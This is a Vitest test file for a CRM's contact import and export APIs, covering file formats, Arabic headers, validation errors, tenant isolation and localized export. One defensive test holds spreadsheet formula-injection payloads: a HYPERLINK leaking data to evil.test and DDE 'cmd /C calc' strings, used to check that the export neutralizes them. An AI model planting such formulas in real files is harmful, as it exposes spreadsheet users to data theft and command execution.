import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from '@e965/xlsx';
import { CONTACT_IMPORT_MAX_BYTES, displayPhone } from '@crm/common';
import { startTestApp, type TestApp } from '../../../test/test-app.js';
import { seedCompany, signIn, type SeededCompany } from '../../../test/fixtures.js';
import { CONTACT_EXPORT_HEADERS } from './contacts-export.js';
import { addLead, expectTotalsMatchCounts, moveTo, seedProducts, setLeadDistribution } from '../../../test/crm-fixtures.js';
import { importAndWait } from '../../../test/imports.js';

let t: TestApp;
let acme: SeededCompany;
let globex: SeededCompany;
const token = { admin: '', sales1: '', sales2: '', globexAdmin: '' };

beforeAll(async () => {
  t = await startTestApp({ env: { SESSION_IDLE_MINUTES: '10000000', SESSION_MAX_HOURS: '1000000' } });
  t.clock.set(new Date('2026-03-10T08:00:00Z'));
  acme = await seedCompany(t, 'acme');
  globex = await seedCompany(t, 'globex', { sales: 1 });
  token.admin = await signIn(t, acme.admin.email);
  token.sales1 = await signIn(t, acme.sales[0].email);
  token.sales2 = await signIn(t, acme.sales[1].email);
  token.globexAdmin = await signIn(t, globex.admin.email);
  // what an admin adds or imports stays unassigned here, as in a company that distributes by hand;
  // the round-robin distribution of imports is covered by contact-creation.spec.ts
  await setLeadDistribution(t, token.admin, 'manual');
  await setLeadDistribution(t, token.globexAdmin, 'manual');
});
afterAll(() => t?.close());

function workbook(rows: unknown[][], bookType: 'xlsx' | 'xls'): Buffer {
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), 'Leads');
  return XLSX.write(book, { type: 'buffer', bookType }) as Buffer;
}

function upload(content: Buffer | string, filename: string, as = token.admin, field = 'file') {
  const form = new FormData();
  form.append(field, new Blob([typeof content === 'string' ? Buffer.from(content) : new Uint8Array(content)]), filename);
  return importAndWait(t, form, as);
}

async function count(as = token.admin) {
  return (await t.api.get('/contacts?limit=1', { token: as })).body.data.total as number;
}

async function byPhone(phone: string, as = token.admin) {
  const res = await t.api.get(`/contacts?q=${encodeURIComponent(phone)}`, { token: as });
  return res.body.data.items[0];
}

describe('POST /contacts/import', () => {
  it('imports an .xlsx: creates good rows, rejects bad ones with their row numbers, fills blanks of existing phones', async () => {
    await addLead(t, token.admin, { name: 'Already Here', phone: '01000000001' }); // no email yet → updated
    await addLead(t, token.admin, { name: 'Complete', phone: '01000000002', email: 'c@x.test', address: 'Giza', notes: 'n' }); // nothing to fill → skipped
    const file = workbook(
      [
        ['Name', 'Phone', 'Email', 'Address', 'Notes', 'Ignored column'],
        ['Hany Mostafa', '01011112222', 'hany@mail.test', 'Maadi, Cairo', 'from the fair', 'x'],
        ['No Phone', '', 'np@mail.test', '', '', ''],
        ['Bad Phone', '12', '', '', '', ''],
        ['Bad Email', '01011113333', 'not-an-email', '', '', ''],
        [],
        ['Hany Again', '+20 101 111 2222', '', '', '', ''],
        ['Someone', '01000000001', 'already@mail.test', 'Heliopolis', '', ''],
        ['Someone Else', '01000000002', 'other@mail.test', '', '', ''],
        ['Dina Samy', 1022223333, '', '', 'numeric phone cell', ''],
      ],
      'xlsx',
    );
    const res = await upload(file, 'leads.xlsx');
    expect(res.status, res.body.error).toBe(200);
    expect(res.body.data).toEqual({
      message: 'Import finished: 2 created, 1 updated, 1 skipped, 4 rejected.',
      total: 8,
      created: 2,
      updated: 1,
      skipped: 1,
      // the skipped row with its number and why (shown on screen after the import)
      skippedRows: [{ row: 9, code: 'nothing_to_fill', reason: 'Already a contact; the row had nothing to add to it' }],
      rejected: [
        // a code and its values, which the screen words in the user's language, beside the English
        { row: 3, code: 'phone_missing', params: {}, reason: 'Phone is missing' },
        { row: 4, code: 'phone_invalid', params: { value: '12' }, reason: '"12" is not a valid phone number' },
        { row: 5, code: 'email_invalid', params: { value: 'not-an-email' }, reason: '"not-an-email" is not a valid email address' },
        { row: 7, code: 'phone_repeated', params: { firstRow: 2 }, reason: 'Same phone as row 2' },
      ],
    });
    expect(await byPhone('01011112222')).toMatchObject({
      name: 'Hany Mostafa',
      phone: '+201011112222',
      email: 'hany@mail.test',
      address: 'Maadi, Cairo',
      notes: 'from the fair',
      stage: 'lead',
      source: 'import',
      assignedTo: null,
    });
    expect(await byPhone('01022223333')).toMatchObject({ name: 'Dina Samy', phone: '+201022223333' });
    // existing: only empty fields were filled, the name typed by a user is kept
    expect(await byPhone('01000000001')).toMatchObject({ name: 'Already Here', email: 'already@mail.test', address: 'Heliopolis', source: 'manual' });
    expect(await byPhone('01000000002')).toMatchObject({ name: 'Complete', email: 'c@x.test' });
  });

  it('imports an .xls (BIFF8) with Arabic headers', async () => {
    const file = workbook(
      [
        ['الاسم', 'الموبايل', 'البريد الإلكتروني', 'العنوان', 'ملاحظات'],
        ['محمد عبد الله', '٠١٢٣٤٥٦٧٨٩٠', 'mohamed@mail.test', 'المنصورة', 'عميل جديد'],
        ['فاطمة حسن', 1155556666, '', 'الإسكندرية', ''],
      ],
      'xls',
    );
    expect(file.subarray(0, 4).toString('hex')).toBe('d0cf11e0');
    const res = await upload(file, 'عملاء.xls');
    expect(res.status, res.body.error).toBe(200);
    expect(res.body.data).toMatchObject({ created: 2, updated: 0, skipped: 0, rejected: [] });
    expect(await byPhone('01234567890')).toMatchObject({ name: 'محمد عبد الله', email: 'mohamed@mail.test', address: 'المنصورة', notes: 'عميل جديد' });
    expect(await byPhone('01155556666')).toMatchObject({ name: 'فاطمة حسن', address: 'الإسكندرية' });
    // Arabic names are searchable too
    const found = await t.api.get(`/contacts?q=${encodeURIComponent('عبد الله')}`, { token: token.admin });
    expect(found.body.data.items.map((c: { name: string }) => c.name)).toEqual(['محمد عبد الله']);
  });

  it('imports a UTF-8 .csv with a BOM and other header spellings', async () => {
    const csv = '\uFEFFFull Name,Mobile Number,E-mail,Customer Address,Comments\n"Rania Fawzy","0109 888 7777",rania@mail.test,"Nasr City, Cairo",call after 5\nTarek,01098887776,,,\n';
    const res = await upload(csv, 'contacts.CSV');
    expect(res.status, res.body.error).toBe(200);
    expect(res.body.data).toMatchObject({ created: 2, rejected: [] });
    expect(await byPhone('01098887777')).toMatchObject({ name: 'Rania Fawzy', email: 'rania@mail.test', address: 'Nasr City, Cairo', notes: 'call after 5' });
  });

  it('reads a Windows-1256 .csv (Excel in Arabic) and first/last name columns', async () => {
    // "الاسم الاول,اسم العائلة,الهاتف" in Windows-1256, then ASCII data
    const header = Buffer.from([
      0xc7, 0xe1, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xc7, 0xe6, 0xe1, 0x2c, 0xc7, 0xd3, 0xe3, 0x20, 0xc7, 0xe1, 0xda, 0xc7, 0xc6, 0xe1, 0xc9, 0x2c, 0xc7, 0xe1, 0xe5, 0xc7, 0xca, 0xdd,
    ]);
    expect(new TextDecoder('windows-1256').decode(header)).toBe('الاسم الاول,اسم العائلة,الهاتف');
    const res = await upload(Buffer.concat([header, Buffer.from('\r\nOmar,Khaled,01277776666\r\n')]), 'win.csv');
    expect(res.status, res.body.error).toBe(200);
    expect(res.body.data.created).toBe(1);
    expect(await byPhone('01277776666')).toMatchObject({ name: 'Omar Khaled' });
  });

  it("a sales user's import is assigned to them and skips contacts they cannot see", async () => {
    const res = await upload('Name,Phone\nSales Import,01233332222\nHany,01011112222\n', 'mine.csv', token.sales1);
    expect(res.body.data).toMatchObject({
      created: 1,
      updated: 0,
      skipped: 1,
      skippedRows: [{ row: 3, code: 'assigned_elsewhere', reason: 'Already a contact, assigned to someone else' }],
    });
    expect((await byPhone('01233332222', token.sales1)).assignedTo._id).toBe(acme.sales[0].id);
    expect(await byPhone('01011112222', token.sales1)).toBeUndefined();
  });

  it('a phone of another company creates a contact in this one and leaves the other alone', async () => {
    const res = await upload('Name,Phone,Email\nHany Globex,01011112222,g@globex.test\n', 'g.csv', token.globexAdmin);
    expect(res.body.data).toMatchObject({ created: 1, updated: 0 });
    expect((await byPhone('01011112222', token.admin)).email).toBe('hany@mail.test');
  });

  it('an unreadable file writes nothing and says why', async () => {
    const before = await count();
    // params.problem: what the screen words the refusal from, in the user's language
    const cases: [Buffer | string, string, string, string][] = [
      [Buffer.from('this is not a workbook at all'), 'leads.xlsx', 'The file could not be read. Upload an Excel workbook (.xlsx, .xls) or a CSV file.', 'unreadable'],
      [Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]), 'broken.xlsx', 'The file could not be read. Upload an Excel workbook (.xlsx, .xls) or a CSV file.', 'unreadable'],
      [Buffer.from([0x00, 0x01, 0x02, 0x4e, 0x61, 0x6d, 0x65]), 'binary.csv', 'The file could not be read: it is not a CSV text file.', 'not_csv'],
      ['Name,Phone\nA,01000000009\n', 'leads.txt', 'Upload an .xlsx, .xls or .csv file.', 'wrong_type'],
      ['', 'empty.csv', 'The file is empty.', 'empty'],
      [
        'Name,Email\nNo phone column,a@b.test\n',
        'nophone.csv',
        'No phone column found. The first row must name the columns, e.g. Name, Phone, Email, Address, Notes (or الاسم، الهاتف، البريد، العنوان، ملاحظات).',
        'no_phone_column',
      ],
      ['Name,Phone\n\n\n', 'header-only.csv', 'The file has no rows to import.', 'no_rows'],
    ];
    for (const [content, name, error, problem] of cases) {
      const res = await upload(content, name);
      expect(res.status, name).toBe(400);
      expect(res.body, name).toEqual({ ok: false, error, code: 'contact.import_file_invalid', params: { problem }, field: 'file' });
    }
    expect(await count()).toBe(before);
  });

  it('refuses more than 10,000 rows as a whole, writing none of them', async () => {
    const before = await count();
    const lines = ['Name,Phone'];
    for (let i = 0; i < 10_001; i++) lines.push(`Bulk ${i},0150${String(i).padStart(7, '0')}`);
    const res = await upload(lines.join('\n'), 'big.csv');
    expect(res.status).toBe(400);
    expect(res.body.error).toBe('The file has too many rows: import at most 10,000 contacts per file.');
    expect(res.body.params).toEqual({ problem: 'too_many_rows', max: 10_000 });
    expect(await count()).toBe(before);
  });

  it('refuses a file over the size limit, a missing file and a wrong field', async () => {
    const big = await upload(Buffer.alloc(CONTACT_IMPORT_MAX_BYTES + 1, 0x41), 'big.csv');
    expect(big.status).toBe(413);
    expect(big.body).toEqual({ ok: false, error: 'The file is too large: the limit is 5 MB.', code: 'payload_too_large', params: { problem: 'too_large', maxMb: 5 }, field: 'file' });
    const none = await t.api.post('/contacts/import', new FormData(), { token: token.admin });
    expect(none.status).toBe(400);
    expect(none.body.error).toBe('Choose a file to import (.xlsx, .xls or .csv) in the field "file".');
    expect(none.body.code).toBe('contact.import_file_missing');
    const wrongField = await upload('Name,Phone\nA,01000000009\n', 'a.csv', token.admin, 'upload');
    expect(wrongField.status).toBe(400);
    expect(wrongField.body.error).toBe('Send exactly one file, in the field "file".');
    expect(wrongField.body).toMatchObject({ code: 'contact.import_file_invalid', params: { problem: 'one_file' } });
  });
});

describe('GET /contacts/export', () => {
  let product: { id: string };
  beforeAll(async () => {
    [product] = await seedProducts(t, acme.tenantId, [{ name: 'Oud Perfume', sku: 'OUD-1', price: 900 }]);
    t.clock.set(new Date('2026-03-09T20:30:00Z')); // 22:30 in Cairo
    const deal = await addLead(t, token.admin, { name: 'Export Deal', phone: '01500000001', email: 'deal@x.test', assignedTo: acme.sales[0].id });
    await moveTo(t, token.admin, deal._id, 'sales');
    await t.api.patch(
      `/contacts/${deal._id}`,
      {
        salesData: { pipeline_status: 'won', probability: 90, shippingDetails: { status: 'delivered', address: { governorate: 'Cairo', city: 'Maadi' } } },
        products: [{ productId: product.id, qty: 2 }],
      },
      { token: token.admin },
    );
    t.clock.set(new Date('2026-03-10T08:00:00Z'));
  });

  async function download(query: string, as = token.admin) {
    const res = await fetch(`${t.url}/api/contacts/export${query}`, { headers: { authorization: `Bearer ${as}` } });
    const body = Buffer.from(await res.arrayBuffer());
    return { res, body };
  }
  const read = (body: Buffer) => {
    const book = XLSX.read(body, { type: 'buffer' });
    return XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]], { raw: false, defval: '' });
  };

  it('streams an .xlsx named leads_{date} whose rows are exactly what the filter selects', async () => {
    const { res, body } = await download('?stage=lead&isArchived=false');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="leads_2026-03-10.xlsx"');
    const rows = read(body);
    const list = await t.api.get('/contacts?stage=lead&isArchived=false&limit=500', { token: token.admin });
    expect(rows.map((r) => r.Phone)).toEqual(list.body.data.items.map((c: { phone: string }) => displayPhone(c.phone) ?? ''));
    expect(rows.map((r) => r.Name)).toEqual(list.body.data.items.map((c: { name: string | null }) => c.name ?? ''));
    expect(rows.every((r) => r.Stage === 'lead')).toBe(true);
  });

  it('writes an empty phone for a contact WhatsApp knows only by an id, and a phone search does not find it by that id', async () => {
    await t.db.platform(async (tx) => {
      const { contacts } = await import('./contacts.table.js');
      await tx.insert(contacts).values([
        { tenantId: acme.tenantId, phone: 'lid:203498765432101', name: 'Placeholder Lid', waLid: '203498765432101@lid' },
        { tenantId: acme.tenantId, phone: 'user:EG.98765432101', name: 'Placeholder User', waUserId: 'EG.98765432101' },
      ]);
    });
    const rows = read((await download('?q=Placeholder')).body);
    expect(rows.map((r) => [r.Name, r.Phone])).toEqual(
      expect.arrayContaining([
        ['Placeholder Lid', ''],
        ['Placeholder User', ''],
      ]),
    );
    expect(rows).toHaveLength(2);
    for (const q of ['98765432101', '0203498765432101']) {
      const found = await t.api.get(`/contacts?q=${q}&limit=50`, { token: token.admin });
      expect(found.body.data.items.map((c: { name: string }) => c.name)).toEqual([]);
    }
  });

  it('writes the deal, products, shipping and the creation time in the zone', async () => {
    const { body } = await download('?q=Export Deal');
    const rows = read(body);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      Name: 'Export Deal',
      Phone: '+201500000001',
      Email: 'deal@x.test',
      Stage: 'sales',
      'Assigned To': acme.sales[0].name,
      'Pipeline Status': 'won',
      Amount: '1800',
      Probability: '90',
      Products: 'Oud Perfume × 2',
      'Shipping Status': 'delivered',
      Governorate: 'Cairo',
      City: 'Maadi',
      'Created At': '2026-03-09 22:30',
    });
    const utc = read((await download('?q=Export Deal&tz=UTC')).body);
    expect(utc[0]['Created At']).toBe('2026-03-09 20:30');
  });

  it("writes the column heads in the user's language; an Arabic export re-imports as it is", async () => {
    const english = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read((await download('?q=Export Deal')).body, { type: 'buffer' }).Sheets.Contacts, { header: 1 })[0];
    expect(english).toEqual([...CONTACT_EXPORT_HEADERS]);

    expect((await t.api.patch('/auth/me/preferences', { language: 'ar' }, { token: token.admin })).status).toBe(200);
    try {
      const { body } = await download('?q=Export Deal');
      const [heads, ...cells] = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(body, { type: 'buffer' }).Sheets.Contacts, { header: 1, raw: false });
      expect(heads).toEqual([
        'الاسم',
        'الهاتف',
        'البريد الإلكتروني',
        'العنوان',
        'المرحلة',
        'المسؤول',
        'حالة الصفقة',
        'المبلغ',
        'الاحتمالية',
        'المنتجات',
        'شركة الشحن',
        'رقم التتبع',
        'حالة الشحن',
        'تكلفة الشحن',
        'المحافظة',
        'المدينة',
        'الشارع',
        'ملاحظات',
        'تاريخ الإنشاء',
      ]);
      expect(cells[0]).toEqual(expect.arrayContaining(['Export Deal', '+201500000001', 'deal@x.test']));

      // the Arabic file, imported by a new company, gives the same contact
      const initech = await seedCompany(t, 'initech', { sales: 1 });
      const initechAdmin = await signIn(t, initech.admin.email);
      await setLeadDistribution(t, initechAdmin, 'manual');
      const imported = await upload(body, 'leads-ar.xlsx', initechAdmin);
      expect(imported.body.data, imported.body.error).toMatchObject({ created: 1, rejected: [] });
      expect(await byPhone('+201500000001', initechAdmin)).toMatchObject({ name: 'Export Deal', email: 'deal@x.test', stage: 'lead' });
    } finally {
      await t.api.patch('/auth/me/preferences', { language: 'en' }, { token: token.admin });
    }
  });

  it('honours every filter and sort like the list', async () => {
    for (const query of ['?sortBy=name&order=asc', `?assignedTo=${acme.sales[0].id}`, '?assignedTo=unassigned&q=010', `?productId=${product.id}`, '?from=2026-03-10&to=2026-03-10']) {
      const rows = read((await download(query)).body);
      const list = await t.api.get(`/contacts${query}${query ? '&' : '?'}limit=500`, { token: token.admin });
      expect(
        rows.map((r) => r.Phone),
        query,
      ).toEqual(list.body.data.items.map((c: { phone: string }) => displayPhone(c.phone) ?? ''));
    }
    const empty = read((await download('?q=nobody-at-all')).body);
    expect(empty).toEqual([]);
  });

  it('a sales user exports only their own contacts; another company none of these', async () => {
    const mine = read((await download('', token.sales1)).body);
    const list = await t.api.get('/contacts?limit=500', { token: token.sales1 });
    expect(mine.map((r) => r.Phone)).toEqual(list.body.data.items.map((c: { phone: string }) => c.phone));
    expect(mine.every((r) => r['Assigned To'] === acme.sales[0].name)).toBe(true);
    const foreign = read((await download('', token.globexAdmin)).body);
    expect(foreign.map((r) => r.Phone)).not.toContain('+201500000001');
  });

  it("exports cells typed as formulas (=, +, -, @) as text, never a formula, prefixed with ' so a re-save as CSV keeps them inert (OWASP)", async () => {
    const typed = [
      ['=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['-2+3', '=1+2', '+201001234567'],
    ];
    const csv = ['Name,Phone,Address,Notes', ...typed.map((r, i) => [r[0], `0104444000${i}`, r[1], r[2]].map((c) => `"${c.replace(/"/g, '""')}"`).join(','))].join('\n');
    const imported = await upload(csv, 'formulas.csv');
    expect(imported.body.data, imported.body.error).toMatchObject({ created: 2, rejected: [] });
    expect(await byPhone('01044440000')).toMatchObject({ name: typed[0][0], address: typed[0][1], notes: typed[0][2] }); // stored as typed

    const { body } = await download('?q=0104444&sortBy=name&order=asc');
    const book = XLSX.read(body, { type: 'buffer', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]];
    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')) as [string, XLSX.CellObject][];
    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([]);
    const row = (phone: string) => {
      const r = cells.find(([, cell]) => cell.v === phone)![0].replace(/^[A-Z]+/, '');
      return { name: sheet[`A${r}`], phone: sheet[`B${r}`], address: sheet[`D${r}`], notes: sheet[`R${r}`] };
    };
    // the file is read as a user's spreadsheet reads it, and every such cell is text starting with '
    expect(row('+201044440000')).toMatchObject({
      name: { t: 's', v: `'${typed[0][0]}` },
      phone: { t: 's', v: '+201044440000' }, // a phone stays usable: text, with its + and no quote
      address: { t: 's', v: `'${typed[0][1]}` },
      notes: { t: 's', v: `'${typed[0][2]}` },
    });
    expect(row('+201044440001')).toMatchObject({ name: { t: 's', v: "'-2+3" }, address: { t: 's', v: "'=1+2" }, notes: { t: 's', v: '+201001234567' } });
    // re-saved as CSV, the cells stay the quoted text
    const csvAgain = XLSX.read(XLSX.utils.sheet_to_csv(sheet), { type: 'string', raw: true });
    const csvCells = XLSX.utils.sheet_to_json<string[]>(csvAgain.Sheets[csvAgain.SheetNames[0]], { header: 1, raw: false }).flat().map(String);
    expect(csvCells).toContain(`'${typed[0][0]}`);
    // only plain signed numbers (the phones) start with + or -
    expect(csvCells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual([]);

    // the export imports back as it was typed: the quote is read off (here by another company)
    const initech = await seedCompany(t, 'initech-formulas', { sales: 1 });
    const initechAdmin = await signIn(t, initech.admin.email);
    await setLeadDistribution(t, initechAdmin, 'manual');
    const again = await upload(body, 'formulas-again.xlsx', initechAdmin);
    expect(again.body.data, again.body.error).toMatchObject({ created: 2, rejected: [] });
    expect(await byPhone('01044440000', initechAdmin)).toMatchObject({ name: typed[0][0], address: typed[0][1], notes: typed[0][2] });
    expect(await byPhone('01044440001', initechAdmin)).toMatchObject({ name: '-2+3', address: '=1+2', notes: '+201001234567' });
  });

  it('keeps amounts as number cells, with the deal amount as a number', async () => {
    const { body } = await download('?q=Export Deal');
    const book = XLSX.read(body, { type: 'buffer' });
    const sheet = book.Sheets[book.SheetNames[0]];
    expect(sheet.H2).toMatchObject({ t: 'n', v: 1800 }); // Amount
    expect(sheet.I2).toMatchObject({ t: 'n', v: 90 }); // Probability
  });

  it('answers bad filters with the JSON error, not a file', async () => {
    const { res, body } = await download('?stage=nope');
    expect(res.status).toBe(400);
    expect(JSON.parse(body.toString())).toMatchObject({ ok: false, error: 'stage must be lead, customer or sales', field: 'stage' });
  });
});

describe('running totals after imports', () => {
  it('agree with a real count', async () => {
    for (const as of [token.admin, token.sales1, token.globexAdmin]) await expectTotalsMatchCounts(t, as, (actual, message) => expect(actual, message));
  });
});
